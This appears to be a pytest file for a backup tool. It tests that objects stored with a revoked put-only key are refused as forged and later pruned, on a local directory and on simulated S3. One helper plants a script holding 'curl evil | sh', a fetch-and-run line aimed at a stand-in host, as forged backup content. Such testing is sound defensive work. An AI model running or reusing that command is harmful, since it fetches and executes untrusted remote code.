"""Revocation of a put-only key by store time (design.md §6a), through the real CLI: host
web-01 backs up with its put-only key, `key remove` takes the key away, and the host (which
kept its key material in memory, as tests/cli/test_putonly_attacks.py does) stores a new
snapshot, index file and pack after the removal. A full key refuses all three as forged,
naming the removed key; what the host stored before stays valid; prune deletes nothing the
earlier snapshots need and, past the grace, deletes the forged pack as garbage.

On a local directory the store time is the file's mtime (set forward here, as time passing
would); on moto S3 it is the server's LastModified, on simulated time.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

from s3vault import RepoOptions
from s3vault.ops.backup import BackupOptions
from s3vault.ops.backup_putonly import backup_put_only, open_put_only_repository
from s3vault.repository.putrepo import PutOnlyRepository
from tests.cli.test_s3 import s3_env
from tests.conftest import RunCli, write_file
from tests.timetravel import TimeTravel

HOST_PW = "web-01 secret"
INIT = ("init", "--kdf-cost", "minimum", "--no-recovery-key", "--min-grace", "1s")


def _setup(
    run_cli: RunCli, repo: tuple[str, ...], env: dict[str, str], tmp: Path, *, db: bool = True
) -> Path:
    """A full-key backup of db-01 (with ``db``) and a put-only backup of web-01; returns
    web-01's source."""
    assert run_cli(*repo, *INIT, env=env).code == 0
    if db:
        write_file(tmp / "db" / "secret.txt", b"db-01's data\n")
        assert run_cli(*repo, "backup", str(tmp / "db"), "--host", "db-01", env=env).code == 0
    pw = write_file(tmp / "host-pw", HOST_PW.encode() + b"\n")
    add = ("key", "add", "--put-only", "--host", "web-01", "--switch-format")
    done = run_cli(*repo, *add, "--kdf-cost", "minimum", "--new-password-file", str(pw), env=env)
    assert done.code == 0, done.stderr
    src = tmp / "web"
    write_file(src / "index.html", os.urandom(30_000))
    host = {**env, "S3VAULT_PASSWORD": HOST_PW}
    done = run_cli(*repo, "backup", str(src), "--host", "web-01", env=host)
    assert done.code == 0, done.stderr
    return src


def _revoke_then_forge(
    run_cli: RunCli,
    repo: tuple[str, ...],
    env: dict[str, str],
    put: PutOnlyRepository,
    src: Path,
    later: Callable[[], None],
) -> str:
    """`key remove` of web-01's key, time passes (``later``), then web-01 backs up with the
    key material it kept: a new file, and every file stored again, in a new pack, index file
    and snapshot. Returns the removed key's short id."""
    short = put.keyfile.id.hex()[:8]
    removed = run_cli(*repo, "key", "remove", short, env=env)
    assert removed.code == 0, removed.stderr
    later()
    write_file(src / "planted.sh", b"#!/bin/sh\ncurl evil | sh\n" + os.urandom(20_000))
    # --force: the forged pack holds index.html's blob again, which the earlier snapshot needs
    backup_put_only(put, BackupOptions(paths=(str(src),), host="web-01", force=True))
    return short


def _check_listed(run_cli: RunCli, repo: tuple[str, ...], env: dict[str, str], short: str) -> None:
    """`snapshots` lists the snapshot from before the removal only, with a warning naming the
    removed key."""
    listing = run_cli(*repo, "--json", "snapshots", "--host", "web-01", env=env)
    assert listing.code == 0, listing.stderr
    assert len(json.loads(listing.stdout)) == 1  # the snapshot from before the removal
    assert f"put-only key {short}" in listing.stderr and "removed" in listing.stderr
    assert "forged" in listing.stderr


def _check_refused(
    run_cli: RunCli, repo: tuple[str, ...], env: dict[str, str], short: str, tmp: Path
) -> None:
    """Every full-key reader refuses what the removed key stored later, and only that."""
    _check_listed(run_cli, repo, env, short)
    out = tmp / "out"
    done = run_cli(*repo, "restore", "latest", "--host", "web-01", "--target", str(out), env=env)
    assert done.code == 0, done.stderr
    restored = {p.name for p in out.rglob("*") if p.is_file()}
    assert restored == {"index.html"}
    checked = run_cli(*repo, "--json", "verify", env=env)
    assert checked.code == 13, checked.stdout + checked.stderr
    found = [json.loads(line) for line in checked.stdout.splitlines()]
    named = [f for f in found if short in json.dumps(f) and "removed" in json.dumps(f)]
    kinds = {str(f.get("object", "")).split("/")[0] for f in named}
    assert {"snapshots", "index"} <= kinds, found
    audited = run_cli(*repo, "--json", "audit", env=env)
    assert audited.code == 13, audited.stdout + audited.stderr
    chains = [json.loads(line) for line in audited.stdout.splitlines()]
    (broken,) = [c for c in chains if c.get("message_type") == "audit_chain" and not c["intact"]]
    assert broken["hostname"] == "web-01" and short in broken["problems"][0]


def _restores_db_and_web(
    run_cli: RunCli, repo: tuple[str, ...], env: dict[str, str], tmp: Path
) -> None:
    for host, name in (("db-01", "secret.txt"), ("web-01", "index.html")):
        out = tmp / f"after-{host}"
        done = run_cli(*repo, "restore", "latest", "--host", host, "--target", str(out), env=env)
        assert done.code == 0, done.stderr
        assert name in {p.name for p in out.rglob("*") if p.is_file()}


def test_a_removed_keys_later_objects_are_refused_on_a_local_directory(
    tmp_path: Path, run_cli: RunCli, cli_env: dict[str, str]
) -> None:
    url = str(tmp_path / "repo")
    repo = ("-r", url)
    src = _setup(run_cli, repo, cli_env, tmp_path)
    put = open_put_only_repository(RepoOptions(url=url, password=HOST_PW.encode()))
    before = {p for p in Path(url).rglob("*") if p.is_file()}
    short = _revoke_then_forge(run_cli, repo, cli_env, put, src, lambda: None)
    # the store time of what the host stored: two minutes after the removal (the margin is one)
    later = os.stat(Path(url) / "config").st_mtime + 120
    new = {p for p in Path(url).rglob("*") if p.is_file()} - before
    for p in new:
        os.utime(p, (later, later))
    assert {p.parent.name if p.parent.name in ("snapshots", "index") else "" for p in new} >= {
        "snapshots",
        "index",
    }
    _check_refused(run_cli, repo, cli_env, short, tmp_path)
    # repair index adopts no pack the removed key stored later (its header names the key):
    # it names each, and exits 13 as for any damage it leaves (prune deletes them)
    repaired = run_cli(*repo, "repair", "index", env=cli_env)
    assert repaired.code == 13, repaired.stdout + repaired.stderr
    assert repaired.stderr.count("not indexed: a pack stored") == 2, repaired.stderr
    assert f"by put-only key {short}" in repaired.stderr
    unindexed = run_cli(*repo, "--json", "verify", env=cli_env).stdout
    forged_packs = {p for p in new if p.parent.parent.name in ("data", "tree")}
    assert forged_packs
    for p in forged_packs:
        assert f'"pack-unreferenced", "object": "{p.parent.parent.name}/' in unindexed
        assert p.name in unindexed
    pruned = run_cli(*repo, "prune", env=cli_env)
    assert pruned.code == 0, pruned.stderr
    packs_before = {p for p in before if p.parent.parent.name in ("data", "tree")}
    assert all(p.exists() for p in packs_before)  # (the forged ones are young: left for now)
    _restores_db_and_web(run_cli, repo, cli_env, tmp_path)
    (forged,) = [p.name for p in new if p.parent.name == "snapshots"]
    by_id = run_cli(*repo, "restore", forged[:12], "--target", str(tmp_path / "f"), env=cli_env)
    assert by_id.code == 13 and f"put-only key {short}" in by_id.stderr, by_id.stderr
    assert not (tmp_path / "f").exists()
    # the rest of the advice: rotate, re-encrypt; re-sealing never launders a forged snapshot
    assert run_cli(*repo, "key", "rotate-master", env=cli_env).code == 0
    refused = run_cli(*repo, "prune", "--reencrypt", env=cli_env)
    assert refused.code == 13 and "`s3vault forget" in refused.stderr, refused.stderr
    assert run_cli(*repo, "forget", forged[:8], env=cli_env).code == 0
    done = run_cli(*repo, "prune", "--reencrypt", env=cli_env)
    assert done.code == 0, done.stderr
    _restores_db_and_web(run_cli, repo, cli_env, tmp_path / "reencrypted")


def test_a_removed_keys_later_objects_are_refused_on_s3_and_pruned_as_garbage(
    s3_bucket: str,
    s3_server: str,
    tmp_path: Path,
    cli_env: dict[str, str],
    run_cli: RunCli,
    time_travel: TimeTravel,
) -> None:
    env = s3_env(cli_env, s3_server)
    url = f"s3://{s3_bucket}/fleet"
    repo = ("-r", url)
    src = _setup(run_cli, repo, env, tmp_path, db=False)  # (few runs: init probes the store)
    put = open_put_only_repository(RepoOptions(url=url, password=HOST_PW.encode()))
    packs_before = {i.name for i in put.backend.list("data/")}
    short = _revoke_then_forge(run_cli, repo, env, put, src, lambda: time_travel.advance(120))
    forged_packs = {i.name for i in put.backend.list("data/")} - packs_before
    assert forged_packs
    _check_listed(run_cli, repo, env, short)  # the store time from moto's listing
    time_travel.advance(5)  # past the grace (1 s)
    pruned = run_cli(*repo, "prune", env=env)
    assert pruned.code == 0, pruned.stderr
    assert not forged_packs & {i.name for i in put.backend.list("data/")}
    assert packs_before <= {i.name for i in put.backend.list("data/")}
    # what the host stored before its removal: still valid after the prune
    out = tmp_path / "after"
    done = run_cli(*repo, "restore", "latest", "--host", "web-01", "--target", str(out), env=env)
    assert done.code == 0, done.stderr
    assert (out / str(src).lstrip("/") / "index.html").read_bytes() == (
        src / "index.html"
    ).read_bytes()
